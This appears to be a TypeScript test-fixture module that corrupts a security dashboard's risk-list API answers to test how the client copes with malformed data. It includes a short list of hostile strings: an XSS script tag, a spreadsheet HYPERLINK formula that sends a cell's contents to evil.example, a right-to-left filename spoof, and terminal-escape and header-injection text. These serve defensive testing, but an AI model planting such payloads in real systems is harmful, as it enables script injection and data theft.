import type { RiskListAnswer } from "./answer.ts";

type Json = Record<string, unknown>;

const BLOCKS = [
  "alarm_risk",
  "baseline_risk",
  "asset_risk",
  "security_protect_risk",
  "vul_risk",
  "image_risk",
];
const LISTED = ["alarm_risk", "baseline_risk", "vul_risk"];

/** Names that do harm where they are not treated as text. */
export const HOSTILE_STRINGS = [
  '<script>alert(1)</script><img src=x onerror="alert(2)">',
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "\u202egnp.exe\u2066",
  "A".repeat(32 * 1024),
  "\u0000bell\u0007 \u001b[31mred\u001b[0m\r\nX-Injected: 1",
] as const;

const withBlocks = (answer: Json, names: readonly string[], change: (block: Json) => unknown): Json => ({
  ...answer,
  ...Object.fromEntries(names.map((name) => [name, change((answer[name] ?? {}) as Json)])),
});

/** Every number of an answer, replaced. */
function mapNumbers(node: unknown, change: (value: number, key: string) => unknown, key = ""): unknown {
  if (typeof node === "number") return change(node, key);
  if (Array.isArray(node)) return node.map((item) => mapNumbers(item, change, key));
  if (typeof node !== "object" || node === null) return node;
  return Object.fromEntries(
    Object.entries(node).map(([name, value]) => [name, mapNumbers(value, change, name)]),
  );
}

const mapCounts = (answer: Json, change: (value: number) => unknown): Json =>
  mapNumbers(answer, (value, key) => (key === "deduct_score" ? value : change(value))) as Json;

/** The lists by severity, with their items replaced. */
const mapRisks = (answer: Json, change: (items: Json[]) => Json[]): Json =>
  withBlocks(answer, LISTED, (block) => ({ ...block, risk_list: change(block.risk_list as Json[]) }));

const policy = (name: string, index: number): Json => ({
  policy_id: `policy-${index}`,
  policy_name: name,
  os_type: "Linux",
  host_num: index,
  rule_name: name,
});

const withPolicies = (answer: Json, names: readonly string[]): Json =>
  withBlocks(answer, ["alarm_risk", "baseline_risk", "asset_risk"], (block) => ({
    ...block,
    policy_list: names.map(policy),
  }));

const numbered = (count: number): string[] =>
  Array.from({ length: count }, (_, index) => `policy ${index + 1}`);
const SEVERITY_WORDS = ["Critical", "High", "Medium", "Low", "Tips"];

function hostileProjects(answer: Json): Json {
  const projects = answer.projects as { name: string }[];
  return {
    ...answer,
    projects: projects.map((project, index) =>
      project.name === "MOS"
        ? project
        : { ...project, name: `${project.name}_${HOSTILE_STRINGS[index % HOSTILE_STRINGS.length]}` },
    ),
  };
}

const BODY: Record<string, (answer: Json) => unknown> = {
  empty_blocks: (answer) => withBlocks(answer, BLOCKS, () => ({})),
  null_blocks: (answer) => withBlocks(answer, BLOCKS, () => null),
  absent_blocks: ({ total_risk_num }) => ({ total_risk_num }),
  empty_answer: () => ({}),
  null_answer: () => null,
  unknown_fields: (answer) => ({
    ...withBlocks(answer, LISTED, (block) => ({ ...block, trend: [1, 2], owner: { name: "x" } })),
    schema_version: 2,
  }),
  unknown_severities: (answer) =>
    mapRisks(answer, (items) => items.map((item) => ({ ...item, severity: "Tips" }))),
  severity_case: (answer) =>
    mapRisks(answer, (items) =>
      items.map((item, index) => {
        const word = String(item.severity);
        return { ...item, severity: index % 2 === 0 ? word.toUpperCase() : word.toLowerCase() };
      }),
    ),
  five_severities: (answer) =>
    mapRisks(answer, () =>
      SEVERITY_WORDS.map((severity, index) => ({ severity, effected_host_num: index, risk_num: index + 1 })),
    ),
  duplicate_severities: (answer) => mapRisks(answer, (items) => items.flatMap((item) => [item, item])),
  numbers_as_strings: (answer) => mapNumbers(answer, String),
  negative_numbers: (answer) => mapCounts(answer, (value) => -1 - value),
  huge_numbers: (answer) => mapCounts(answer, (value) => 3_000_000_000 + value),
  unsafe_numbers: (answer) => mapCounts(answer, (value) => 2 ** 60 + value),
  fractional_counts: (answer) => mapCounts(answer, (value) => value + 0.5),
  float_noise: (answer) =>
    withBlocks(answer, ["vul_risk"], (block) => ({ ...block, deduct_score: 19.900000001 })),
  deduction_above_cap: (answer) =>
    withBlocks(answer, ["vul_risk"], (block) => ({ ...block, deduct_score: 20.5 })),
  total_mismatch: (answer) => ({ ...answer, total_risk_num: (answer.total_risk_num as number) + 7 }),
  /** What a gateway in between makes of a good answer. */
  wrapped_answer: (answer) => ({ code: 0, message: "success", data: answer }),
  counts_below_list: (answer) =>
    withBlocks(answer, ["alarm_risk"], (block) => ({ ...block, total_risk_num: 100 })),
  no_policies: (answer) => withPolicies(answer, []),
  policies_32: (answer) => withPolicies(answer, numbered(32)),
  policies_33: (answer) => withPolicies(answer, numbered(33)),
  hostile_strings: (answer) => {
    if ("projects" in answer) return hostileProjects(answer);
    const severities = HOSTILE_STRINGS.slice(0, 3).map((severity) => ({ severity, risk_num: 1 }));
    return withPolicies(
      mapRisks(answer, () => severities),
      HOSTILE_STRINGS,
    );
  },
};

/** Faults that leave the transport alone and change what the answer says. */
export type BodyFault = keyof typeof BODY & string;
export const BODY_FAULTS: readonly string[] = Object.keys(BODY);

/** The answer as the fault makes it. */
export function changedBody(fault: string, answer: RiskListAnswer | unknown): unknown {
  const change = Object.hasOwn(BODY, fault) ? BODY[fault] : undefined;
  if (change === undefined) throw new RangeError(`There is no fault ${fault}.`);
  return change(structuredClone(answer) as Json);
}
